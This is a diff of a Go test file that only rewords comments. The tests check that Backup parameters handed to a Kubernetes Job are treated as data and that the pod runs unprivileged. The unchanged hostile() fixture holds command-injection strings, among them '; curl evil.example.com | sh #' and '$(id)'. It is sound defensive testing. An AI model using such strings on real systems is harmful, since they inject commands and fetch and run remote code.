@@ -86,7 +86,7 @@ func endJob(t *testing.T, job *batchv1.Job) {
 	})
 }
 
-// hostile are parameters by which somebody would like to be more than data.
+// hostile are parameters that try to be more than data.
 func hostile() v1alpha1.ParameterSet {
 	return v1alpha1.ParameterSet{
 		"shell": "; curl evil.example.com | sh #", "backticks": "`id`", "substitution": "$(id) ${IFS}", "quotes": `'"\`,
@@ -97,7 +97,7 @@ func hostile() v1alpha1.ParameterSet {
 	}
 }
 
-// TestParametersAreDataToAJob has somebody who may create Backups hand everything to a Job
+// TestParametersAreDataToAJob lets a user who may create Backups pass everything to a Job
 // that might become a command, a variable of its own, or a file.
 func TestParametersAreDataToAJob(t *testing.T) {
 	t.Parallel()
@@ -132,7 +132,7 @@ func TestParametersAreDataToAJob(t *testing.T) {
 	world.WaitForDeletion(t, secret)
 }
 
-// checkUnprivileged checks whose rights a pod has: nobody's.
+// checkUnprivileged checks that a pod has no rights.
 func checkUnprivileged(t *testing.T, pod *corev1.PodSpec) {
 	t.Helper()
 	security := pod.Containers[0].SecurityContext
@@ -217,7 +217,7 @@ func checkFiles(t *testing.T, secret *corev1.Secret, job *batchv1.Job, b *v1alph
 	}
 	var subject v1alpha1.Backup
 	if err := json.Unmarshal(secret.Data["subject.json"], &subject); err != nil || subject.UID != b.UID {
-		t.Errorf("the Job is told of another Backup: %v, %s", err, subject.UID)
+		t.Errorf("the Job gets another Backup: %v, %s", err, subject.UID)
 	}
 }
 
